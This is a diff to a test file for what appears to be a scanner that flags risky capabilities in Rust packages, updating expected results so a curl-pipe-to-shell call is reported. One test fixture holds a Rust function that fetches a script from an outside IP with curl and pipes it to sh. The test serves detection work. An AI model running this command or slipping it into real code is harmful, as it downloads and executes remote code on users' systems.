@@ -482,7 +482,8 @@ test('the package\'s build script is read with a handler of the package, its fin
     ['/b/fetch.rs', 'pub fn get() { std::process::Command::new("sh").arg("-c").arg("curl -s http://203.0.113.9 | sh").status().unwrap(); }\n'],
   ]);
   const got = await scanMap(files, '/b/src/main.rs');
-  assert.equal(got.caps, ['/b/fetch.rs:1 std::process::Command']);
+  // Since scanner26 the command the chain writes gets its rows too: a download run as code.
+  assert.equal(got.caps, ['/b/fetch.rs:1 command:curl', '/b/fetch.rs:1 command:curl|sh', '/b/fetch.rs:1 std::process::Command']);
   // A build script named in the manifest, the default one turned off.
   files.set('/b/Cargo.toml', '[package]\nname = "srv"\nbuild = "tools/gen.rs"\n');
   files.set('/b/tools/gen.rs', 'fn main() { std::fs::write("x", "y").unwrap(); }\n');
